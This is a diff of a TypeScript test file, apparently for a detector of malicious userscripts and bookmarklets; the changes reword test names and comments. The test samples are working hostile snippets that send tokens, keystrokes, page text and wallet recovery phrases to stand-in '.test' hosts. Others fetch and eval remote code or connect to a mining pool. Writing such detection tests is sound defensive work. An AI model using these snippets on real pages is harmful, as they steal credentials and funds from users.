@@ -4,14 +4,14 @@ import { openTestBrowser, runBookmarklet, runSample, seen } from "./canary.test-
 const browser = openTestBrowser();
 afterAll(() => browser.close());
 
-/** Each snippet in a world of its own, speaking to `<name>.test`. */
+/** Joins snippets; each runs in its own function and sends to `<name>.test`. */
 const together = (snippets: Readonly<Record<string, string>>) =>
 	Object.entries(snippets)
 		.map(([name, body]) => `(async (at) => { ${body} })('https://${name}.test').catch(() => 0);`)
 		.join("\n");
 const send = (text: string) => `navigator.sendBeacon(at, ${text})`;
 
-/** Where secrets lie, and what has to happen before they leave. */
+/** Scripts that take a secret from different places, some only after a certain event. */
 const PLACES = {
 	global: send("unsafeWindow.__SHOP_STATE__.session.accessToken"),
 	bundle: `unsafeWindow.webpackChunkshop.push([[1], {}, (r) => Object.values(r.c).forEach((m) => { const e = m.exports.default || m.exports; if (typeof e.getToken === 'function') ${send("e.getToken()")} })])`,
@@ -30,20 +30,20 @@ const PLACES = {
 	visits: `const v = JSON.parse(localStorage.getItem('v') || '[]'); const t = GM_getValue('t', []); t.push(location.href); GM_setValue('t', t); if (t.length >= 25) ${send("JSON.stringify(t)")}`,
 };
 
-describe("a secret leaves", () => {
-	it("from wherever a page keeps it, once what the script waits for has happened", async () => {
+describe("a secret that is sent is detected", () => {
+	it("from every place in a page, after the event that the script waits for", async () => {
 		const report = await runSample(browser, together(PLACES), ["@match https://*/*", "@grant GM_setValue"]);
 		const hosts = new Set(report.evidence.map(({ host }) => host?.replace(".test", "")));
 		expect([...hosts].toSorted()).toEqual(Object.keys(PLACES).toSorted());
 	});
 
-	it("from a site without encryption, key by key", async () => {
+	it("from an insecure site, as key presses", async () => {
 		const body =
 			"var typed = ''; document.onkeypress = function (e) { typed += String.fromCharCode(e.which) }; window.onunload = function () { new Image().src = 'http://old.test/p.gif?' + escape(typed) }";
 		expect(seen(await runSample(browser, body, ["@include http://forum.example.org/*"]))).toContain("typed>old.test");
 	});
 
-	it("in the words of a wallet, asked for by a question, in a closed tree, and word by word", async () => {
+	it("as a recovery phrase: entered in a prompt, in a closed shadow tree, or word by word", async () => {
 		const closed = `customElements.define('re-sync', class extends HTMLElement { connectedCallback() { const r = this.attachShadow({ mode: 'closed' }); r.innerHTML = '<p>Restore your wallet</p><textarea></textarea><button>Go</button>'; r.querySelector('button').onclick = () => ${send("btoa(r.querySelector('textarea').value)")} } }); document.body.append(document.createElement('re-sync'))`;
 		const words = `const f = document.createElement('form'); f.append('Import: type your 12 words', ...Array.from({ length: 12 }, () => document.createElement('input')), document.createElement('button')); f.onsubmit = (e) => { e.preventDefault(); ${send("JSON.stringify([...f.elements].map((i) => i.value))")} }; document.body.append(f)`;
 		const asked = `const w = prompt('Your 12-word recovery phrase') || ''; if (w.split(' ').length === 12) ${send("w")}`;
@@ -53,7 +53,7 @@ describe("a secret leaves", () => {
 		);
 	});
 
-	it("behind the back of who uses a bookmarklet: nobody looks at the answer", async () => {
+	it("when a bookmarklet sends it and ignores the response", async () => {
 		const to = (rest: string) => `fetch("https://x.test/", { method: "POST", body: document.body.innerText })${rest}`;
 		expect(seen(await runBookmarklet(browser, `alert(document.title); ${to("")}`))).toContain("page>x.test");
 		const told = seen(await runBookmarklet(browser, to(".then((r) => r.text()).then(alert)")));
@@ -61,7 +61,7 @@ describe("a secret leaves", () => {
 	});
 });
 
-/** Answers, and what becomes code of them. */
+/** Ways to decode and run code from a response. */
 const ANSWERS = {
 	packed: "(0, eval)(atob(await (await fetch(at + '/rules')).text()))",
 	header: "Function((await fetch(at)).headers.get('x-rules'))()",
@@ -74,8 +74,8 @@ const ANSWERS = {
 	resource: "Function(GM_getResourceText('macros'))()",
 };
 
-describe("other people's code", () => {
-	it("runs, in whatever form it comes", async () => {
+describe("code of other sites", () => {
+	it("is detected in every encoding", async () => {
 		const lines = ["@match *://*/*", "@resource macros https://resource.test/latest/macros.txt", "@grant GM_getValue"];
 		const report = await runSample(browser, together(ANSWERS), lines);
 		const ran = report.evidence.filter(({ what }) => what === "remote-code").map(({ host }) => host);
@@ -86,7 +86,7 @@ describe("other people's code", () => {
 		);
 	});
 
-	it("is seen when the window's name, a parameter or any message is run", async () => {
+	it("is detected when the window's name, a parameter or a message is run", async () => {
 		const named = "document.body.insertAdjacentHTML('beforeend', '<b>' + window.name + '</b>')";
 		const lines =
 			"for (const l of (await (await fetch(at + '/options')).text()).split('\\n')) { const [, k, v] = /^(\\w+)=(.*)$/.exec(l) || []; if (k === 'after') setTimeout(v) } ({}).after";
@@ -101,8 +101,8 @@ describe("other people's code", () => {
 	});
 });
 
-describe("money", () => {
-	it("goes elsewhere: approvals, requests of the page, links, what is copied", async () => {
+describe("theft of money is detected", () => {
+	it("in approvals, requests of the page, links and copied addresses", async () => {
 		const other = "'0x' + 'ab'.repeat(20)";
 		const report = await runSample(
 			browser,
@@ -125,7 +125,7 @@ describe("money", () => {
 			expect(texts).toContain(what);
 	});
 
-	it("is computed for somebody's pool", async () => {
+	it("in mining for a pool", async () => {
 		const body =
 			"const s = new WebSocket('wss://pool.test/'); s.onopen = () => s.send(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['web/1'] }))";
 		expect(seen(await runSample(browser, body))).toEqual(["miner>pool.test"]);
